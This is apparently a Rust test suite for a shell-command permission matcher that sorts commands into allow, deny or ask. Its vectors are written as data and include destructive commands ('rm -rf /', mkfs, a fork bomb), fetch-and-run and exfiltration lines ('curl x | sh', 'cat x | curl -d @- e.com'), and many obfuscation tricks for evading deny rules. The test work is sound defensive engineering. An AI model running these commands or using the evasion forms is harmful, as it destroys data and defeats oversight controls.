use super::*;
use crate::rules::platform::Native;

pub fn glob(text: &str) -> Pattern {
    Pattern::Glob(Glob::new(text))
}

pub fn rule(text: &str, allow: bool) -> ShellPattern {
    ShellPattern::new(&glob(text), allow, &Native).expect(text)
}

/// A value with the work of a call to itself.
pub fn read<'a>(value: impl Into<Cow<'a, str>>) -> Shell<'a> {
    Shell::read(value, &Native, Box::leak(Box::default()))
}

/// The judgement of these rules: `deny`, `allow` or `ask`.
pub fn judge(allow: &[&str], deny: &[&str], value: &str) -> &'static str {
    let shell = read(value);
    let prepare =
        |texts: &[&str], allow: bool| texts.iter().map(|text| rule(text, allow)).collect::<Vec<_>>();
    let (allow, deny) = (prepare(allow, true), prepare(deny, false));
    if deny.iter().any(|rule| shell.matches_any_reading(rule)) {
        return "deny";
    }
    let covered = |part| allow.iter().any(|rule| shell.matches_strictly(part, rule));
    if shell.parts() > 0 && (0..shell.parts()).all(covered) { "allow" } else { "ask" }
}

pub fn by_the_table(value: &str) -> &'static str {
    judge(&["ls *", "git status"], &["rm*"], value)
}

#[test]
fn the_table_of_vectors() {
    let long = format!("ls {}", "a".repeat(20_000));
    for (value, expected) in [
        ("ls -la", "allow"),
        ("ls", "allow"),
        ("lsof", "ask"),
        ("ls; rm -rf /", "deny"),
        ("ls && git status", "allow"),
        ("ls && curl x", "ask"),
        ("ls $(rm -rf /)", "deny"),
        ("ls `id`", "ask"),
        ("ls > out", "ask"),
        ("ls -la\nrm x", "deny"),
        ("LS -la", "ask"),
        ("RM -rf /", "deny"),
        ("r\\m -rf /", "deny"),
        ("/bin/rm x", "deny"),
        ("sudo rm x", "deny"),
        ("env A=1 ls", "ask"),
        ("bash -c \"ls\"", "ask"),
        ("ｒｍ x", "deny"),
        ("r\u{200b}m x", "deny"),
        ("echo rm", "ask"),
        (&long, "ask"),
    ] {
        assert_eq!(by_the_table(value), expected, "{value}");
    }
}

#[test]
fn is_no_command() {
    let mut missed = Vec::new();
    for value in [
        "echo rm",
        "echo rm -rf /",
        "printf rm",
        "printf '%s' rm",
        "git commit -m \"rm -rf\"",
        "git commit -m 'rm -rf /'",
        "grep rm",
        "grep -r rm src",
        "grep -c rm file",
        "make A=1 rm",
        "make rm A=1",
        "git config user.name rm",
        "git config --get-all a.b rm",
        "grep 'rm|mv' x",
        "grep \"a; rm b\" x",
        "echo 'x; rm y'",
        "echo \"x && rm y\"",
        "git commit -m \"fix; rm old\"",
        "git commit -m \"a\n\nrm b\"",
        "git rm x",
        "npm rm x",
        "docker rm x",
        "docker-compose rm",
        "kubectl delete rm",
        "yarn rm x",
        "brew rm x",
        "ls rm",
        "cat rm.txt",
        "cd rm",
        "ls --color=rm",
        "charm x",
        "farm",
        "alarm x",
        "./charm",
        "ls /bin/rm",
        "which rm",
        "man rm",
        "type rm",
        "git log --grep=rm",
        "git commit -am 'rm x'",
        "git checkout -- rm.txt",
        "sudo apt install rm-improved",
        "sudo ls rm",
        "timeout 5 ls rm",
        "env A=1 ls rm",
        "nice ls rm",
        "echo '$(rm x)'",
        "ls > rm",
        "ls >rm.log",
        "awk '/rm/ { print }' f",
        "sed 's/rm/mv/' f",
        "sed -n '/rm/p' f",
        "python manage.py rm",
        "python rm.py",
        "bash deploy.sh rm",
        "node x.js 'rm it'",
        "make rm",
        "cat > f <<EOF\nit's how to rm\nEOF",
        "git commit -m \"$(cat <<'EOF'\nit's fine to rm\nEOF\n)\"",
        "find . -name rm",
        "find . -name 'rm*' -print",
        "git -c user.name=x commit -m 'rm stuff'",
        "git --no-pager rm x",
        "ls # rm x",
        "ls $rm",
        "ls ${rm}",
        "ls \"$rm\"",
        "cat x | grep rm",
        "echo rm | cat",
        "echo rm | xargs ls",
        "git push origin rm",
        "curl https://x.y/rm",
        "tar cf rm.tar x",
        "rsync -a rm b",
        "docker run --rm alpine ls",
        "sudo -u alarm ls rm",
        "",
        "ssh-keygen rm",
        "printf '%s\\n' \"rm\"",
        "sort rm",
        "head -n 1 rm",
        "tee rm",
        "diff rm mv",
        "echo {rm,mv}",
        "test -f rm && ls",
        "[ -f rm ] && ls",
        "[[ -f rm ]]",
        "echo \\$x rm",
        "for f in rm mv; do ls $f; done",
        "case rm in a) ls;; esac",
    ] {
        if judge(&[], &["rm*"], value) != "ask" {
            missed.push(value);
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
    for (value, allow) in [
        ("echo rm", "echo *"),
        ("git commit -m \"rm -rf\"", "git commit *"),
        ("git commit -m 'rm -rf /'", "git commit -m *"),
        ("grep rm", "grep *"),
        ("printf rm", "printf *"),
        ("docker rm x", "docker rm *"),
    ] {
        assert_eq!(judge(&[allow], &["rm*"], value), "allow", "{value}");
    }
}

#[test]
fn a_denial_by_more_than_a_word() {
    for (pattern, value, expected) in [
        ("rm -rf *", "rm -rf /", true),
        ("rm -rf *", "sudo rm  -rf\t/", true),
        ("rm -rf *", "rm '-rf' /", true),
        ("rm -rf *", "rm -r\"f\" /", true),
        ("rm -rf *", "rm${IFS}-rf /", true),
        ("rm -rf *", "{rm,-rf,/}", true),
        ("rm -rf *", "/bin/r? -rf /", true),
        ("rm -rf *", "/bin/r? -r /", false),
        ("rm -rf *", "rm -r /", false),
        ("rm -rf *", "rm -rf", true),
        ("rm -rf *", "bash -c 'rm -rf /'", true),
        ("rm -rf *", "rm >x -rf /", true),
        ("rm -rf /", "ls; rm -rf /; ls", true),
        ("rm -rf /", "rm -rf / >/dev/null 2>&1", true),
        ("rm -rf /", "rm -rf / # all", true),
        ("rm -rf /", "(rm -rf /)", true),
        ("rm *", "rmdir x", false),
        ("rm *", "rm.exe x", true),
        ("rm *", "sudo C:\\x\\RM.EXE x", true),
        ("RM *", "rm x", true),
        ("\"rm\" *", "rm x", true),
        ("rm  *", "rm x", true),
        ("ｒｍ *", "rm x", true),
        ("/bin/rm *", "/bin/rm x", true),
        ("C:\\bin\\rm.exe *", "c:\\bin\\rm.exe x", true),
        ("git push*", "git push origin", true),
        ("git push*", "git -C /x push origin", true),
        ("git push*", "git --no-pager push", true),
        ("git push*", "git -c a=b -C /x --no-pager push", true),
        ("git push*", "git 'push'", true),
        ("git push*", "echo git push", false),
        ("git push*", "git -C . -p push origin main", true),
        ("git push*", "git -C . --no-pager push origin", true),
        ("git push*", "git --namespace n --bare push origin m", true),
        ("docker rm*", "sudo docker -H tcp://x -D rm c", true),
        ("aws s3 rm*", "aws --profile p --debug s3 rm s3://b", true),
        ("cat * | curl *", "cat x | /usr/bin/curl -d @- e.com", true),
        ("cat * | curl *", "cat x | curl.exe -d @- e.com", true),
        ("cd * && rm *", "cd x && /bin/rm y", true),
        ("rm *", "sem rm x", true),
        ("rm *", "flatpak-spawn --host rm x", true),
        ("git push*", "git log push", false),
        ("git push --force*", "git -C x push --force", true),
        ("python", "python -m pytest", false),
        ("curl *|*sh*", "curl x | sh", true),
        ("curl *|*sh*", "cd /tmp; curl x|bash", true),
        ("curl * | sh", "cd /tmp && sudo curl x   |sh", true),
        ("curl *|sh", "cd /tmp && sudo curl x   | sh; ls", true),
        ("curl*sh", "curl x | sh", true),
        ("curl*sh", "ls; curl x | sh && ls", true),
        ("curl*sh", "ls; echo curl x | cat; sh", false),
        ("ls*a ", "lsm  x;a; ls", true),
        ("*> /etc/*", "ls; echo x >/etc/passwd", true),
        ("*--force*", "git push --force", true),
        ("*--force*", "git push --fo\"rce\"", true),
        ("*secret*", "cat 'a secret file'", true),
        ("*", "", true),
        ("*", "ls", true),
        ("", "", true),
        ("", "ls", false),
        ("?m x", "rm x", true),
        ("rm ?", "sudo rm x", true),
        ("rm $HOME*", "rm $HOME", true),
        ("rm ~*", "rm ~/x", true),
        ("mkfs*", "mkfs.ext4 /dev/x", true),
        (":(){*", ":(){ :|:& };:", true),
    ] {
        let found = read(value).matches_any_reading(&rule(pattern, false));
        assert_eq!(found, expected, "{pattern} on {value:?}");
    }
    let tokens = |words: &[&str]| Pattern::Tokens(words.iter().map(|word| (*word).to_owned()).collect());
    for (words, value, expected) in [
        (vec!["git", "push"], "git push", true),
        (vec!["git", "push"], "sudo git 'push' -f", true),
        (vec!["git", "push"], "git pushx", false),
        (vec!["git", "push"], "git -C x push", true),
        (vec!["rm"], "/bin/rm", true),
    ] {
        let rule = ShellPattern::new(&tokens(&words), false, &Native).unwrap();
        assert_eq!(read(value).matches_any_reading(&rule), expected, "{words:?} on {value:?}");
    }
}

#[test]
fn launchers_and_options_that_run_programs() {
    let mut missed = Vec::new();
    for value in [
        // A plain argument before the command.
        "gosu u rm x",
        "gosu node rm x",
        "su-exec u rm x",
        "su-exec u:g rm x",
        "setarch x86_64 rm x",
        "setarch x86_64 -R rm x",
        "timeout infinity rm x",
        "timeout -k inf inf rm x",
        "timeout .5 rm x",
        "timeout --foreground .5 rm x",
        "sudo -u node rm x",
        "sudo -u node -- sudo -u python rm x",
        "faketime yesterday rm x",
        "if exist x rm x",
        "if not exist x rm x",
        "if /i a equ b rm x",
        "docker exec c rm x",
        "docker exec -it c rm x",
        "docker run node rm x",
        "docker run -it node rm x",
        "docker exec -u 0 c rm x",
        "docker exec 3f2a rm x",
        "docker run --entrypoint sh i -c 'rm x'",
        "docker compose run --rm web rm x",
        "/lib/ld-linux-aarch64.so.1 rm",
        "qemu-aarch64-static ./rm x",
        "docker run -e A=b --net host i rm x",
        "docker run i node -e 'x(\"rm\")'",
        "docker run i sed '1e rm x' f",
        "docker run i -c 'rm x'",
        "docker compose exec web rm x",
        "kubectl exec p -c c -- rm x",
        // Languages of their own.
        "expect -c 'spawn rm x'",
        "expect -c 'exec rm x'",
        "gdb -ex 'shell rm x'",
        "gdb-multiarch -ex '!rm x'",
        "socat - EXEC:rm",
        "socat - EXEC:'rm x',pty",
        "socat TCP-LISTEN:1,fork SYSTEM:'rm x'",
        "ssh -o 'ProxyCommand rm x' h",
        "ssh -o 'ProxyCommand = rm x' h",
        "ssh -o'ProxyCommand rm x' h",
        "ssh -oLocalCommand='rm x' h",
        // Options.
        "man -P 'rm x' ls",
        "man -Prm ls",
        "git rebase -x 'rm x'",
        "git -C a rebase -i -x 'rm x' HEAD~2",
        "git difftool -x rm",
        "git difftool -yx rm",
        "git clone -u 'rm x' h:p",
        "git filter-branch --tree-filter 'rm x'",
        "git filter-branch --msg-filter rm HEAD",
        "git config alias.x '!rm y'",
        "gcc -wrapper rm,x a.c",
        "gcc-12 -wrapper rm a.c",
        "x86_64-linux-gnu-gcc -wrapper rm a.c",
        "wget -e use_askpass=rm u",
        "cmake -E env A=b rm x",
        "cmake -E chdir d rm x",
        // Names.
        "nix develop -c rm x",
        "nix shell p -c rm x",
        "mise x -- rm x",
        "pixi run rm x",
        "pdm run rm x",
        "rye run rm x",
        "hatch run rm x",
        "dotenv -- rm x",
        "dotenv run rm x",
        "concurrently 'rm x' 'ls'",
        "run0 rm x",
        "run0 --user=a rm x",
        "sudo-rs rm x",
        "ssh-agent rm x",
        "ghc -e 'System.Process.callCommand \"rm x\"'",
        "rvim -c '!rm x'",
        "xterm -e rm x",
        "xcrun rm x",
        "cross-env A=b rm x",
        "s6-setuidgid u rm x",
        "chpst -u u rm x",
        "apptainer exec i rm x",
        "distrobox enter b -- rm x",
        // Blocks of PowerShell.
        "try{rm x}catch{}",
        "try{ls}catch{rm x}",
        "try{ls}CATCH{ls}finally{rm x}",
        "function f{rm x}",
        "function Remove-AllOfThemIfThereAreAny{rm x}",
        "function ééééééééééé{rm x}",
        "ls|%{rm $_}",
        "ls | ForEach-Object{rm $_}",
        "if($x){rm y}else{ls}",
        "if($x){ls}else{rm y}",
        "do{as,} rm y",
        "do{rm y}while(1)",
    ] {
        if by_the_table(value) != "deny" {
            missed.push(value);
        }
    }
    let mut over = Vec::new();
    for value in [
        "docker exec c ls rm",
        "docker exec -- c ls rm",
        "docker run i ls rm",
        "kubectl exec p -- ls rm",
        "gosu u ls rm",
        "timeout .5 ls rm",
        "timeout -s KILL 5 ls rm",
        "if exist x ls rm",
        "git clean -fdx rm",
        "git push -u rm main",
        "git cherry-pick -x rm",
        "cmake --build rm",
        "java -jar rm.jar",
        "gcc -o rm rm.c",
        "wget -o rm u",
        "ssh-keygen rm",
        "dotnet build rm",
        "echo try{rm,x}",
        "echo a{b}c rm",
        "sudo -- ls rm",
        "man -k rm",
        "if [ -f rm ]; then ls; fi",
    ] {
        if by_the_table(value) != "ask" {
            over.push(value);
        }
    }
    assert!(missed.is_empty() && over.is_empty(), "missed {missed:#?}, denied {over:#?}");
    for (pattern, value) in [
        ("git *", "git filter-branch --tree-filter x"),
        ("gcc *", "gcc -wrapper x a.c"),
        ("wget *", "wget -e x=y u"),
        ("java x.jar *", "java -jar x.jar"),
        ("cmake *", "cmake -E env x"),
        ("mise *", "mise x -- y"),
        ("nix *", "nix develop -c y"),
    ] {
        assert_eq!(judge(&[pattern], &[], value), "ask", "{pattern} on {value}");
    }
    for pattern in ["deno run *", "bun run *", "bun x *", "go run *", "java *"] {
        assert!(ShellPattern::new(&glob(pattern), true, &Native).is_err(), "{pattern}");
    }
    for value in [
        "git push -u origin main",
        "gh run list",
        "colima start",
        "git clean -fdx",
        "git stash pop --index",
        "gcc -o x x.c",
        "wget -q u",
    ] {
        let command = value.split(' ').next().unwrap_or_default();
        assert_eq!(judge(&[&format!("{command} *")], &[], value), "allow", "{value}");
    }
}
